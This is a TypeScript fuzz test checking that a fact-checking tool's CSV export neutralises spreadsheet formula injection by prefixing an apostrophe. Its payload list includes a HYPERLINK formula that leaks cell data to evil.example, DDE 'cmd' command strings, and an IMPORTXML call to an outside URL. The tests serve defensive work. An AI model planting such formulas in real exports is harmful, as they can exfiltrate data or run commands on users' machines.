/**
 * Formula injection through the CSV report. 10,000 cells that start a spreadsheet formula
 * (= + - @, tab, CR, LF, NUL and their full-width forms, then payloads such as
 * =HYPERLINK(…) or =cmd|' /C calc'!A0 with quotes, commas and line breaks) go through
 * the report writer; a CSV parser reads every row back: no cell starts a formula, and
 * each is the value given behind one apostrophe. Then the same through the API on a real
 * workspace, from every field a person types. FUZZ_SEED replays a run.
 */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ReportRow } from '../../db/queries/report';
import { useTempWorkspace } from '../../db/testing/temp-workspace';
import { CSV_COLUMNS, reportToCsv } from '../report/csv';
import { callOrThrow } from './dispatch';

const newWorkspace = useTempWorkspace();
const SEED = Number(process.env.FUZZ_SEED ?? 20261206);

/** What a spreadsheet may run as a formula when a cell starts with it. */
const FORMULA_START = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const startsFormula = (cell: string) => cell.length > 0 && FORMULA_START.includes(cell[0]!);

const PAYLOADS = ['HYPERLINK("https://evil.example/?leak="&A1,"Click")', "cmd|' /C calc'!A0", 'SUM(1+1)*cmd|\' /C calc\'!A0', '1+1', '2+3', 'IMPORTXML(CONCAT("http://x/?", A1), "//a")', 'A1', '"quoted"', 'a,b;c', 'line\r\nbreak', 'x\ny', '\r'];
const payload = fc.oneof(fc.constantFrom(...PAYLOADS), fc.string({ maxLength: 40 }), fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', ';', '=', "'", 'x', ' ', '|'), maxLength: 20 }));
const formulaCell = fc.tuple(fc.array(fc.constantFrom(...FORMULA_START), { minLength: 1, maxLength: 3 }), payload).map(([lead, rest]) => lead.join('') + rest);

/** The report's text cells, by field; the other cells are numbers and labels the report makes itself. */
const TEXT_FIELDS = ['articleTitle', 'text', 'speaker', 'reviewedBy', 'reviewedAt', 'notes', 'sources', 'disputedBy', 'articleFile', 'articleWords', 'tags'] as const;
const CELLS_PER_ROW = TEXT_FIELDS.length;
const ROWS = 1000;

function row(cells: readonly string[]): ReportRow {
  const text = Object.fromEntries(TEXT_FIELDS.map((field, i) => [field, cells[i]!])) as Record<(typeof TEXT_FIELDS)[number], string>;
  return { id: 7, articleDate: '2025-02-17', number: 3, status: 'disputed', checkWorthiness: 0.5, disputePending: false, seenBefore: '', speakerByHand: false, ...text };
}

const columnOf = (field: (typeof TEXT_FIELDS)[number]) =>
  ({ articleTitle: 'Article', text: 'Claim', speaker: 'Speaker', reviewedBy: 'Reviewed by', reviewedAt: 'Reviewed at', notes: 'Notes', sources: 'Sources', disputedBy: 'Disputed by', articleFile: 'Article file', articleWords: 'Article words', tags: 'Tags' })[field];

describe('CSV export of formula-leading cells', () => {
  it(`${(ROWS * CELLS_PER_ROW).toLocaleString('en-US')} formula-leading cells (${ROWS} rows × ${CELLS_PER_ROW}): none starts a formula, every row reads back through csv-parse`, () => {
    let cellsChecked = 0;
    fc.assert(
      fc.property(fc.array(formulaCell, { minLength: CELLS_PER_ROW, maxLength: CELLS_PER_ROW }), (cells) => {
        const { csv, rowCount } = reportToCsv([row(cells)]);
        expect(rowCount).toBe(1);
        const records = parse(csv, { bom: true, relax_quotes: false }) as string[][];
        expect(records.length).toBe(2);
        expect(records[0]).toEqual([...CSV_COLUMNS]);
        const record = records[1]!;
        expect(record.length).toBe(CSV_COLUMNS.length);
        for (const cell of record) expect(startsFormula(cell), JSON.stringify(cell)).toBe(false);
        TEXT_FIELDS.forEach((field, i) => {
          expect(record[(CSV_COLUMNS as readonly string[]).indexOf(columnOf(field))]).toBe(`'${cells[i]}`);
          cellsChecked++;
        });
      }),
      { numRuns: ROWS, seed: SEED },
    );
    expect(cellsChecked).toBe(ROWS * CELLS_PER_ROW);
  });

  it('100 formula-leading values typed into a real workspace (title, speaker, reviewer, notes, source titles) export as text', () => {
    const ws = newWorkspace();
    const imported = callOrThrow(ws, 'importArticle', { text: 'Officials said 40 schools closed.\n\nPrices rose 4% in a year.', title: 'Schools' });
    const claimId = callOrThrow(ws, 'listClaims', { filter: { articleId: imported.article.id } }).rows[0]!.id;
    // What a person can type: the schema trims leading whitespace and refuses control characters.
    const typed = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'), payload).map(([lead, rest]) => `${lead}${rest.replace(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f]/g, '')}`);
    let given = 0;
    fc.assert(
      fc.property(typed, (value) => {
        callOrThrow(ws, 'setPreferences', { reviewerName: value.slice(0, 100) });
        callOrThrow(ws, 'renameArticle', { id: imported.article.id, title: value.slice(0, 500) });
        callOrThrow(ws, 'setSpeaker', { claimId, speaker: value.replace(/[\r\n\t]/g, ' ').slice(0, 200) });
        callOrThrow(ws, 'setStatus', { claimId, status: 'disputed' });
        callOrThrow(ws, 'addNote', { claimId, body: value });
        // (A new address each time: one claim may hold an address once.)
        callOrThrow(ws, 'addSource', { claimId, url: `https://example.org/report/${given}`, title: value.slice(0, 500) });
        given++;
        const { csv } = callOrThrow(ws, 'exportCsv', { filter: { articleId: imported.article.id } });
        const records = parse(csv, { bom: true }) as string[][];
        for (const record of records.slice(1)) {
          expect(record.length).toBe(CSV_COLUMNS.length);
          for (const cell of record) expect(startsFormula(cell), JSON.stringify(cell)).toBe(false);
        }
        const claimRow = records.find((r) => r[0] === String(claimId))!;
        expect(claimRow[(CSV_COLUMNS as readonly string[]).indexOf('Speaker')]).toBe(`'${value.replace(/[\r\n\t]/g, ' ').slice(0, 200).trim()}`);
      }),
      { numRuns: 100, seed: SEED },
    );
    expect(given).toBe(100);
  }, 120_000);
});
